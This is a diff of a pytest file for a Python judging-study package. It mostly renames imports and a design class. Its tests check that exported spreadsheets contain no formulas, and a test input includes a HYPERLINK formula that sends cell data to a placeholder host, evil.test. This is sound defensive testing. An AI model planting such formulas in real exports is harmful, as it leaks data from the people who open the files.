@@ -8,14 +8,14 @@ import json
 
 import pytest
 
-from tare._app.exporting import FORMATS, export, offered
+from tare._app.exports import FORMATS, export, offered
 from tare._data.preferences import read_preferences
 from tare._data.pyramid import read_pyramid
 from tare._data.qrels import read_qrels
 from tare._data.ratings import read_ratings
 from tare._data.scu_presence import read_presence
 from tare._measures.scores import Scores
-from tare.studies._judging import Design, Dimension, Study, Task
+from tare.studies._judging import Dimension, Study, StudyDesign, Task
 from tare.studies._judging.design import Text
 from tests.rooms import ANSWERS, FORMULAS, House
 from tests.unit.data.test_spreadsheets import runs
@@ -32,7 +32,7 @@ def hostile(kind: str) -> Study:
     }.get(kind, {})
     pair = kind in ("preference", "headtohead", "markup")
     task = Task(QUERY, (ONE, TWO) if pair else (ONE,), units=units if kind == "scus" else ())
-    design = Design(kind, title=OTHER, **more)
+    design = StudyDesign(kind, title=OTHER, **more)
     joined = kind in ("ratings", "headtohead", "scus", "markup")
     texts = {f"{QUERY}\t{n}" if joined else n: Text("=1+1 is what it says") for n in (ONE, TWO)}
     return Study(design, (task,), texts, {QUERY: Text("a query")})
@@ -77,7 +77,7 @@ def test_no_cell_of_any_export_is_a_formula(judged):
 def test_reasons_are_words_of_strangers(judged):
     bob = judged.assessor(1)
     judged.store.study  # noqa: B018 (one answer a task: the second is not offered any)
-    assert "nothing left" in bob.open("/work")
+    assert "no tasks left" in bob.open("/work")
     ann = judged.assessor(0)
     ann.post("/undo", submission="undo-of-that-answer-1")
     ann.judge({"choice": "cannot", "reason": '=HYPERLINK("http://evil.test?"&A1;"x")'})
